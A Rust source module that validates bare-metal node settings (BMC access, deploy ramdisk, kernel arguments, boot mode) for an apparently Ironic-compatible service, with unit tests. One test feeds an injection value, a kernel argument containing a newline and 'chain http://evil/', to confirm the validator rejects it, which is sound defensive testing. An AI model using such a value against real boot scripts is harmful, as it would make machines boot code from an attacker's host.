//! What a node's `driver_info`, `instance_info` and `properties` say: how its BMC is reached, what its agent boots, and with
//! which firmware. Pure.
//!
//! | module | content |
//! |---|---|
//! | [`keys`], [`instance_info`], [`properties`] | the keys of each that Ironic documents, and what becomes of them |
//! | [`capabilities`] | the capabilities that Ironic acts on |
//! | [`ipmi`], [`redfish`] | the properties of each kind of BMC |
//! | `values` | values in every form that clients send |

pub mod capabilities;
pub mod instance_info;
pub mod ipmi;
pub mod keys;
pub mod properties;
pub mod redfish;
mod values;

use domain::{
    disk_hints::{self, HintUse},
    driver::Driver,
    id::NodeId,
    kernel_arguments::KernelArgumentsError,
    net::BmcAddr,
    power::{BootMode, BootPersistence},
};
use keyspace::value::{
    ExtraFields, InstanceInfo, Intent, Ipmi, IronicRamdisk, NodeSpec, Properties, Redfish, check_secrets_stay,
};
use serde_json::{Map, Value};
use wire_ironic::error::{Class, Error};

pub use self::values::plain;

/// The dictionaries of a node that is created or changed, as fields of its document.
#[derive(Debug, Clone, Copy)]
pub struct Change<'a> {
    /// The node.
    pub node: NodeId,
    /// Its driver after the change.
    pub driver: Driver,
    /// Its fields before the change, with sealed secrets. `None` for a node that is created.
    pub before: Option<&'a Map<String, Value>>,
    /// Its fields after the change.
    pub after: &'a Map<String, Value>,
}

impl Change<'_> {
    fn is_of(&self, field: &str) -> bool {
        self.before.is_none_or(|before| before.get(field) != self.after.get(field))
    }

    /// The members of a dictionary whose values the change sets; all of them for a new driver.
    fn changed(&self, name: &str) -> Map<String, Value> {
        let members = |fields: &Map<String, Value>| fields.get(name).and_then(Value::as_object).cloned();
        let mut changed = members(self.after).unwrap_or_default();
        if let Some(before) = self.before.filter(|_| !self.is_of("driver")).and_then(members) {
            changed.retain(|key, value| before.get(key) != Some(value));
        }
        changed
    }

    fn dictionary(fields: &Map<String, Value>, name: &str) -> ExtraFields {
        fields.get(name).and_then(Value::as_object).cloned().map(ExtraFields::from).unwrap_or_default()
    }
}

/// Checks the dictionaries that a change touches. What a node has had since before is not refused anew, also in these.
///
/// # Errors
/// 400 with the key, the reason and what to do.
pub fn check(change: &Change<'_>) -> Result<(), Error> {
    let Change { node, driver, before, after } = *change;
    let changes_driver = change.is_of("driver");
    if change.is_of("driver_info") {
        redfish::check_trust(node, after.get("driver_info"))?;
        if let Some(before) = before {
            let of = |fields| Change::dictionary(fields, "driver_info");
            let checked = check_secrets_stay(&of(before), &of(after));
            checked.map_err(|moved| Class::Invalid.error(format!("{moved}.")))?;
        }
    }
    if changes_driver || change.is_of("driver_info") {
        keys::refuse("driver_info", keys::KEYS, driver, &change.changed("driver_info"))?;
        keys::check_urls(driver, &change.changed("driver_info"))?;
        keys::check_values(driver, after.get("driver_info"))?;
    }
    if changes_driver || change.is_of("properties") {
        properties::check(driver, node, Some(&change.changed("properties").into()))?;
    }
    if changes_driver || change.is_of("instance_info") {
        instance_info::check(driver, Some(&change.changed("instance_info").into()))?;
    }
    if changes_driver || change.is_of("instance_info") || change.is_of("properties") {
        instance_info::check_boot_modes(driver, after.get("instance_info"), after.get("properties"))?;
    }
    Ok(())
}

/// Checks that the agent which the node boots evaluates the hints for its disks. The agent refuses others too; this is earlier.
///
/// # Errors
/// 400 with the key, the reason and what to do.
pub fn check_disks(driver: Driver, spec: &NodeSpec) -> Result<(), Error> {
    let by_ironics_agent = ironic_ramdisk(driver, spec)?.is_some();
    let skipped = Properties::of(&spec.properties).skipped_disks();
    let all = skipped.iter().map(|hints| ("properties/skip_block_devices", hints, true));
    let root_device = spec.root_device();
    for (key, hints, skips) in
        all.chain([("root_device", &root_device, false)]).filter(|_| driver != Driver::FakeHardware)
    {
        let checked = disk_hints::check(hints, HintUse { by_ironics_agent, skips });
        checked.map_err(|error| Class::Invalid.error(format!("{key} of the node cannot be used: {error}")))?;
    }
    Ok(())
}

/// Puts into a node's intent what its dictionaries say about its boots. `before` is what they were; a firmware interface that
/// they no longer name is the default again.
///
/// # Errors
/// `Invalid` if kernel arguments cannot be put into a boot script.
pub fn apply(intent: &mut Intent, before: Option<&NodeSpec>, spec: &NodeSpec) -> Result<(), Error> {
    let unnamed = if before.and_then(boot_mode).is_some() { BootMode::default() } else { intent.boot_mode };
    intent.boot_mode = boot_mode(spec).unwrap_or(unnamed);
    intent.boot_persistence = boot_persistence(spec);
    intent.keeps_boot_order = spec.keeps_boot_order(intent.driver);
    intent.ironic_ramdisk = ironic_ramdisk(intent.driver, spec)?;
    Ok(())
}

/// Forgets a node's instance, and what its intent has from it: the image, the firmware that it boots with, and arguments of
/// the agent's kernel.
pub fn forget_instance(intent: &mut Intent, spec: &mut NodeSpec) {
    let before = spec.clone();
    spec.forget_instance();
    intent.deployment = None;
    // What is left is the node's own, and was checked when it was set.
    drop(apply(intent, Some(&before), spec));
}

/// The firmware interface that a node is to boot with: that of its instance, or else its own. `None` if none is named.
fn boot_mode(spec: &NodeSpec) -> Option<BootMode> {
    let of_instance = spec.instance_info.as_ref().and_then(|info| InstanceInfo::of(info).boot_mode());
    of_instance.or_else(|| Properties::of(&spec.properties).boot_mode())
}

/// The ramdisk that a node with an agent names, if it names both of its files. Kernel arguments of the instance have
/// precedence.
///
/// # Errors
/// `Invalid` if kernel arguments cannot be put into a boot script, also where no ramdisk is named yet.
pub fn ironic_ramdisk(driver: Driver, spec: &NodeSpec) -> Result<Option<IronicRamdisk>, Error> {
    let info = spec.driver_info.as_ref();
    let of = |name: &str| info.and_then(|fields| fields.text(name)).filter(|text| !text.is_empty());
    let arguments = |text: Option<&str>, dictionary: &str| {
        let parsed = text.map(str::parse).transpose();
        parsed.map_err(|error: KernelArgumentsError| {
            Class::Invalid.error(format!("{dictionary}/kernel_append_params is invalid: {error}."))
        })
    };
    let instance = spec.instance_info.as_ref().and_then(|info| InstanceInfo::of(info).kernel_append_params());
    let of_node = arguments(of("kernel_append_params"), "driver_info")?;
    let of_instance = arguments(instance, "instance_info")?;
    let named = of("deploy_kernel").zip(of("deploy_ramdisk")).filter(|_| driver != Driver::FakeHardware);
    Ok(named.map(|(kernel, ramdisk)| IronicRamdisk {
        kernel: kernel.to_owned(),
        ramdisk: ramdisk.to_owned(),
        arguments: of_instance.or(of_node),
    }))
}

/// Which boot orders of a node last longer than one boot.
#[must_use]
pub fn boot_persistence(spec: &NodeSpec) -> BootPersistence {
    let named = spec.driver_info.as_ref().and_then(|info| info.as_map().get("force_persistent_boot_device"));
    named.and_then(values::boot_persistence).unwrap_or_default()
}

/// Address of a BMC, and the keys of its user name and password in `driver_info`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BmcAccess {
    /// Its address.
    pub address: BmcAddr,
    /// Settings of an IPMI BMC, without the key K_G.
    pub ipmi: Ipmi,
    /// Settings of a Redfish BMC.
    pub redfish: Option<Redfish>,
    /// The key of the user name.
    pub user: &'static str,
    /// The key of the password.
    pub password: &'static str,
}

/// Parses how to reach a BMC. `None` if `driver_info` is incomplete or invalid.
#[must_use]
pub fn bmc_access(driver: Driver, info: &Map<String, Value>) -> Option<BmcAccess> {
    match driver {
        Driver::Ipmi => {
            let (address, ipmi) = (ipmi::address(info)?, ipmi::parse(info).ok()?);
            Some(BmcAccess { address, ipmi, redfish: None, user: "ipmi_username", password: "ipmi_password" })
        }
        Driver::Redfish => {
            let (address, redfish) = redfish::parse(info).ok().flatten()?;
            let (ipmi, redfish) = (Ipmi::default(), Some(redfish));
            Some(BmcAccess { address, ipmi, redfish, user: "redfish_username", password: "redfish_password" })
        }
        Driver::FakeHardware | Driver::ManualManagement => None,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_ramdisk_needs_both_kernel_and_ramdisk() {
        let node = |info: &Value| -> NodeSpec { serde_json::from_value(json!({ "driver_info": info })).unwrap() };
        let whole =
            json!({"deploy_kernel": "http://h/k", "deploy_ramdisk": "ipa", "kernel_append_params": "%default% x"});
        let of = |driver, info: &Value| ironic_ramdisk(driver, &node(info)).unwrap();
        let named = of(Driver::Ipmi, &whole).unwrap();
        assert_eq!((named.kernel.as_str(), named.ramdisk.as_str()), ("http://h/k", "ipa"));
        assert_eq!(named.arguments.unwrap().as_str(), "%default% x");
        let partial = json!({"deploy_kernel": "http://h/k", "deploy_ramdisk": ""});
        assert_eq!(of(Driver::Ipmi, &partial), None);
        assert_eq!(of(Driver::FakeHardware, &whole), None);
    }

    #[test]
    fn kernel_arguments_that_would_become_commands_of_a_boot_script_are_rejected_with_their_place() {
        let refused = |node: Value| {
            let spec: NodeSpec = serde_json::from_value(node).unwrap();
            ironic_ramdisk(Driver::FakeHardware, &spec).unwrap_err().text
        };
        let text = refused(json!({"driver_info": {"kernel_append_params": "quiet\nchain http://evil/"}}));
        assert!(
            text.starts_with("driver_info/kernel_append_params is invalid: ") && text.contains("one line"),
            "{text}"
        );
        let text = refused(json!({"instance_info": {"kernel_append_params": "quiet ${net0/mac}"}}));
        assert!(text.starts_with("instance_info/kernel_append_params is invalid: "), "{text}");
    }

    #[test]
    fn a_node_that_is_torn_down_keeps_nothing_of_its_instance() {
        let info = json!({"deploy_kernel": "k", "deploy_ramdisk": "r", "kernel_append_params": "node"});
        let instance = json!({"kernel_append_params": "tenant", "capabilities": {"boot_mode": "bios"}});
        let mut spec: NodeSpec =
            serde_json::from_value(json!({"driver_info": info, "instance_info": instance, "instance_uuid": "i"}))
                .unwrap();
        let mut intent = Intent::new("n".to_owned(), Driver::Ipmi, domain::time::Timestamp::from_millis(1));
        let arguments = |intent: &Intent| {
            let ramdisk = intent.ironic_ramdisk.as_ref().unwrap();
            ramdisk.arguments.as_ref().map(|arguments| arguments.as_str().to_owned())
        };
        apply(&mut intent, None, &spec).unwrap();
        assert_eq!((arguments(&intent).as_deref(), intent.boot_mode), (Some("tenant"), BootMode::Bios));
        forget_instance(&mut intent, &mut spec);
        assert_eq!((arguments(&intent).as_deref(), intent.boot_mode), (Some("node"), BootMode::Uefi));
        assert_eq!((spec.instance_info, spec.instance_uuid), (None, None));
        // What the node has of its own stays.
        let mut spec: NodeSpec =
            serde_json::from_value(json!({"properties": {"capabilities": "boot_mode:bios"}})).unwrap();
        apply(&mut intent, None, &spec).unwrap();
        forget_instance(&mut intent, &mut spec);
        assert_eq!((intent.boot_mode, &intent.ironic_ramdisk), (BootMode::Bios, &None));
        apply(&mut intent, Some(&spec), &NodeSpec::default()).unwrap();
        assert_eq!(intent.boot_mode, BootMode::Uefi, "it is named no longer");
    }

    #[test]
    fn a_change_is_checked_in_the_dictionaries_that_it_touches_and_with_a_new_driver_in_all() {
        let node = NodeId::new(uuid::Uuid::nil());
        let fields = |value: Value| value.as_object().cloned().unwrap();
        let has_iso = json!({"boot_iso": "http://h/i"});
        let before = fields(
            json!({"driver": "fake-hardware", "instance_info": has_iso, "driver_info": {"ipmi_bridging": "dual"},
                                   "properties": {"capabilities": "secure_boot:true"}, "name": "a"}),
        );
        for (driver, change, right) in [
            (Driver::FakeHardware, json!({"instance_info": {"boot_iso": "http://h/j"}}), None),
            (Driver::FakeHardware, json!({"properties": {"memory_mb": "x"}}), Some("memory_mb=x")),
            (Driver::Ipmi, json!({"driver": "ipmi"}), Some("driver_info/ipmi_bridging")),
            (Driver::Ipmi, json!({"driver": "ipmi", "driver_info": {}}), Some("properties/capabilities")),
            (
                Driver::Ipmi,
                json!({"driver": "ipmi", "driver_info": {}, "properties": {}}),
                Some("instance_info/boot_iso"),
            ),
            (Driver::Ipmi, json!({"driver": "ipmi", "driver_info": {}, "properties": {}, "instance_info": {}}), None),
        ] {
            let mut after = before.clone();
            after.extend(fields(change.clone()));
            let checked =
                check(&Change { node, driver, before: Some(&before), after: &after }).map_err(|error| error.text);
            match right {
                None => assert_eq!(checked, Ok(()), "{change}"),
                Some(key) => assert!(checked.unwrap_err().contains(key), "{change}"),
            }
        }
        let since_before = before;
        // The same in the dictionary that changes: only what is set anew is refused.
        let old = |kernel: &str, more: Value| {
            let mut info = fields(json!({"kernel": kernel, "boot_iso": "http://h/i"}));
            info.extend(fields(more));
            json!(info)
        };
        let fields_of = |info: Value, capabilities: &str| {
            fields(json!({"driver": "ipmi", "instance_info": info, "driver_info": {"ipmi_bridging": "dual"},
                          "properties": {"capabilities": capabilities, "inject_files": "x"}}))
        };
        let before = fields_of(old("k", json!({})), "");
        for (info, capabilities, source, right) in [
            (old("k", json!({})), "raid:1", "properties change", None),
            (json!({"kernel": "k"}), "", "another key is removed", None),
            (old("k", json!({"image_source": "http://h/i"})), "", "another key is set", None),
            (old("other", json!({})), "", "the value changes", Some("instance_info/kernel")),
            (old("k", json!({"ramdisk": "r"})), "", "a refused key is added", Some("instance_info/ramdisk")),
            (
                old("k", json!({"deploy_boot_mode": "uefi"})),
                "boot_mode:bios",
                "they contradict",
                Some("contradicts properties"),
            ),
        ] {
            let after = fields_of(info, capabilities);
            let change = Change { node, driver: Driver::Ipmi, before: Some(&before), after: &after };
            match (check(&change).map_err(|error| error.text), right) {
                (checked, None) => assert_eq!(checked, Ok(()), "{source}"),
                (checked, Some(why)) => assert!(checked.clone().unwrap_err().contains(why), "{source}: {checked:?}"),
            }
        }
        let before = fields_of(json!({"deploy_boot_mode": "uefi"}), "");
        let after = fields_of(json!({"deploy_boot_mode": "uefi"}), "boot_mode:bios");
        let change = Change { node, driver: Driver::Ipmi, before: Some(&before), after: &after };
        assert!(check(&change).unwrap_err().text.contains("contradicts properties"), "properties alone change");
        let mut after = before.clone();
        after.insert("driver_info".to_owned(), json!({"ipmi_bridging": "dual", "ipmi_address": "10.0.0.1"}));
        let change = Change { node, driver: Driver::Ipmi, before: Some(&before), after: &after };
        assert_eq!(check(&change).map_err(|error| error.text), Ok(()), "ipmi_bridging is from before");
        // What a node of this driver has had since before is not refused because something else changes.
        let mut before = since_before;
        before.insert("driver".to_owned(), json!("ipmi"));
        let mut after = before.clone();
        after.insert("name".to_owned(), json!("b"));
        assert_eq!(
            check(&Change { node, driver: Driver::Ipmi, before: Some(&before), after: &after }).map_err(|e| e.text),
            Ok(())
        );
        assert!(check(&Change { node, driver: Driver::Ipmi, before: None, after: &after }).is_err());
    }
}
